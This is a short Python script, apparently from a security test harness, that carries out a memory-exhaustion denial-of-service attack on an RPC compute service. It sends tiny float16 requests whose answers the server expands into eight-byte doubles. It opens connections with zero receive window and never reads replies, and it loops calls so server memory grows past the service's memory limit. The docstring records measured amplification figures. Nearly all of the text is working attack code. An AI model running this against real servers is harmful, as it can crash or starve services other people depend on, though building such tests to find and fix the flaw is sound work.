"""Answers as typed values: a half float of two bytes is a double of eight there, and a boolean's memory is nobody's
budget: the lease of --memory-limit ends when the values are made. The client takes no answer.

Cost: 75 bytes a call. Found: 50 MiB for an answer of 15 MiB, 810 MiB for one of 256 MiB; as many as there are streams.
"""

import time

import wire
from attack import Attack, Target, run

ELEMENTS = (15 << 20) // 8


def ask(method: str, calls: int):
    def attack(target: Target) -> None:
        connections = []
        loss = wire.l1_loss([ELEMENTS // calls - 100], 0, wire.FLOAT16)
        raw = [bytes(2)]
        message = (
            wire.execute(loss, raw, wire.VALUES)
            if method == "Execute"
            else wire.batch([loss] * calls, raw, wire.VALUES)
        )
        while True:
            connection = target.connect(len(connections), window=0, refill=False)
            connections.append(connection)
            for _ in range(100):
                connection.start(method, message)
                connection.poll(0.005)
            if len(connections) == 8:
                time.sleep(target.seconds)

    return attack


if __name__ == "__main__":
    run(Attack([ask("Execute", 1), ask("ExecuteBatch", 16)], rss_mib=800))
